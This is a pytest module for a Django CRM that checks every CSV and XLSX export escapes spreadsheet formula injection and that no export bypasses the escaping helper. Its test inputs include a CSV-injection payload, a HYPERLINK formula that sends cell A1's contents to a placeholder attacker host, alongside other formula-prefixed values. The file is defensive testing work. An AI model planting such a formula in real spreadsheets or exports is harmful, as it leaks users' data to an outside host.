"""Exports cannot attack whoever opens them: every export escapes formula cells (crm/exports.py), and a new
export that bypasses the helper, or that has no escaping test here, fails this module."""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone
from openpyxl import load_workbook

from crm import exports
from crm.notifications.models import Notification, PrintBatch
from crm.reports.models import ReportRow, ReportSnapshot
from incentives.models import Award
from tests.factories import ClientFactory
from tests.incentives.factories import AwardTypeFactory

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1", "-2", "@SUM(A1:A9)", "\tTAB", "\rCR"]


def _escaped(value: str) -> str:
    return "'" + value


def _csv(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode() if response.streaming else response.content.decode()
    return list(csv.reader(io.StringIO(body, newline="")))


def _xlsx(response) -> list[list]:
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)), read_only=True)
    return [list(row) for row in book.active.iter_rows(values_only=True)]


def _cells(rows) -> set:
    return {cell for row in rows for cell in row}


NUMBER = re.compile(r"-?\d+(\.\d+)?")


def _assert_every_hostile_value_escaped(rows) -> None:
    # a workbook stores line breaks as "\n" (XML normalises "\r")
    cells = {c.replace("\n", "\r") if isinstance(c, str) else c for c in _cells(rows)}
    for value in HOSTILE:
        assert _escaped(value) in cells, value
        assert value not in cells, value
    # nothing but escaped text starts with a formula character (a negative figure is a number)
    assert not [
        c for c in cells if isinstance(c, str) and c.startswith(exports.FORMULA_PREFIXES) and not NUMBER.fullmatch(c)
    ]


# --- the helper ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize("value", HOSTILE)
def test_safe_cell_prefixes_text_that_a_spreadsheet_would_run(value):
    assert exports.safe_cell(value) == "'" + value


def test_safe_cell_keeps_numbers_as_numbers_and_plain_text_as_is():
    assert exports.safe_cell(Decimal("-2.50")) == Decimal("-2.50")
    assert exports.safe_cell(-3) == -3
    assert exports.safe_cell("Acme = best") == "Acme = best"
    assert exports.safe_cell(None) == "" and exports.safe_cell(True) == "yes"


def test_xlsx_cells_are_text_never_formulas(rf):
    response = exports.xlsx_response(filename="t", header=["name"], rows=[[v] for v in HOSTILE])
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    cells = [row[0] for row in book.active.iter_rows(min_row=2)]
    assert all(c.data_type == "s" for c in cells)
    assert [c.value for c in cells] == [_escaped(v).replace("\r", "\n") for v in HOSTILE]


# --- every export in the project ----------------------------------------------------------------------------


@pytest.fixture
def hostile_clients(db, sales_manager):
    return [ClientFactory(name=value, manager=sales_manager, address=value) for value in HOSTILE]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("who", ["sm_client", "acc_client"])
def test_client_export_escapes_formula_cells(request, who, fmt, hostile_clients):
    client = request.getfixturevalue(who)
    response = client.get(reverse("clients:export"), {"format": fmt})
    assert response.status_code == 200
    rows = _xlsx(response) if fmt == "xlsx" else _csv(response)
    _assert_every_hostile_value_escaped(rows)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_payroll_export_escapes_formula_cells(acc_client, django_user_model, fmt):
    for i, value in enumerate(HOSTILE):
        user = django_user_model.objects.create_user(f"u{i}", first_name=value, last_name="")
        Award.objects.create(
            period="2026-10",
            award_type=AwardTypeFactory(name=value),
            user=user,
            cash_amount=Decimal("10.00"),
            status=Award.Status.APPROVED,
        )
    response = acc_client.get(reverse("incentives:payroll_csv"), {"format": fmt})
    rows = _xlsx(response) if fmt == "xlsx" else _csv(response)
    _assert_every_hostile_value_escaped(rows)
    if fmt == "xlsx":
        assert rows[1][5] == 10  # the amount stays a number


@pytest.fixture
def hostile_snapshot(db, hostile_clients):
    now = timezone.now()
    snapshot = ReportSnapshot.objects.create(
        kind="value", period="weekly", period_start=now, period_end=now, generated_at=now, row_count=len(HOSTILE)
    )
    for i, client in enumerate(hostile_clients, start=1):
        ReportRow.objects.create(
            snapshot=snapshot,
            position=i,
            client_id=client.pk,
            data={"position": i, "client": client.name, "net_contribution": "-5.00", "manager": "sm"},
        )
    return snapshot


def test_report_export_page_escapes_formula_cells_and_keeps_negative_figures(admin_client_role, hostile_snapshot):
    response = admin_client_role.get(reverse("reports:csv", args=["value"]), {"snapshot": hostile_snapshot.pk})
    rows = _csv(response)
    _assert_every_hostile_value_escaped(rows)
    column = rows[0].index("net_contribution")
    assert {r[column] for r in rows[1:]} == {"-5.00"}  # a figure is a number, not escaped text


def test_report_export_api_escapes_formula_cells(admin_api, hostile_snapshot):
    response = admin_api.get(reverse("api-report-csv", args=["value", hostile_snapshot.pk]))
    assert response.status_code == 200
    _assert_every_hostile_value_escaped(_csv(response))


def test_print_batch_mailing_list_escapes_formula_cells(admin_client_role, hostile_clients):
    batch = PrintBatch.objects.create()
    for client in hostile_clients:
        Notification.objects.create(
            event=client.name,
            client=client,
            channel="letter",
            status="sent",
            dedup_key=f"letter:{client.pk}",
            subject=client.name,
            print_batch=batch,
        )
    response = admin_client_role.get(reverse("notifications:print_batch_csv", args=[batch.pk]))
    _assert_every_hostile_value_escaped(_csv(response))


def test_print_batch_mailing_list_api_escapes_formula_cells(admin_api, hostile_clients):
    batch = PrintBatch.objects.create()
    for client in hostile_clients:
        Notification.objects.create(
            event=client.name,
            client=client,
            channel="letter",
            status="sent",
            dedup_key=f"letter:{client.pk}",
            subject=client.name,
            print_batch=batch,
        )
    response = admin_api.get(reverse("api-print-batch-csv", args=[batch.pk]))
    _assert_every_hostile_value_escaped(_csv(response))


# --- nothing exports around the helper ---------------------------------------------------------------------

# Every export URL (by name) and the test above that proves it escapes formula cells. A new export URL (a name
# or route with csv, xlsx or export in it) fails test_every_export_url_has_an_escaping_test until it is added
# here with its test.
EXPORT_URLS = {
    "clients:export": test_client_export_escapes_formula_cells,
    "incentives:payroll_csv": test_payroll_export_escapes_formula_cells,
    "reports:csv": test_report_export_page_escapes_formula_cells_and_keeps_negative_figures,
    "api-report-csv": test_report_export_api_escapes_formula_cells,
    "notifications:print_batch_csv": test_print_batch_mailing_list_escapes_formula_cells,
    "api-print-batch-csv": test_print_batch_mailing_list_api_escapes_formula_cells,
    # JSON for the person who asked, never a spreadsheet (tests/clients/test_personal_data.py)
    "clients:personal_data_export": None,
}
LOOKS_LIKE_AN_EXPORT = re.compile(r"csv|xlsx|export", re.IGNORECASE)


def _named_patterns(patterns, namespace=""):
    for p in patterns:
        if isinstance(p, URLResolver):
            ns = f"{namespace}{p.namespace}:" if p.namespace else namespace
            yield from _named_patterns(p.url_patterns, ns)
        elif isinstance(p, URLPattern):
            yield (f"{namespace}{p.name}" if p.name else str(p.pattern)), str(p.pattern)


def test_every_export_url_has_an_escaping_test():
    found = {
        name
        for name, route in _named_patterns(get_resolver().url_patterns)
        if LOOKS_LIKE_AN_EXPORT.search(name) or LOOKS_LIKE_AN_EXPORT.search(route)
    }
    found.discard("clients:import")  # "import" pages take files in, they do not hand them out
    assert found == set(EXPORT_URLS)


# Files allowed to write CSV themselves: the helper, and the report store's COPY into PostgreSQL (a database
# load, never handed to a person).
CSV_WRITERS_ALLOWED = {"crm/exports.py", "crm/reports/services.py"}


def test_no_export_writes_csv_or_workbooks_around_the_helper():
    root = Path(settings.BASE_DIR)
    offenders = []
    for path in root.rglob("*.py"):
        relative = path.relative_to(root).as_posix()
        if relative.startswith((".venv/", "tests/", "bench/")) or "/migrations/" in relative:
            continue
        text = path.read_text()
        if relative not in CSV_WRITERS_ALLOWED and re.search(
            r"csv\.(writer|DictWriter)\(|content_type=\"text/csv", text
        ):
            offenders.append(relative)
        if relative != "crm/exports.py" and re.search(r"Workbook\(|openpyxl\.writer", text):
            offenders.append(relative)
    assert offenders == []
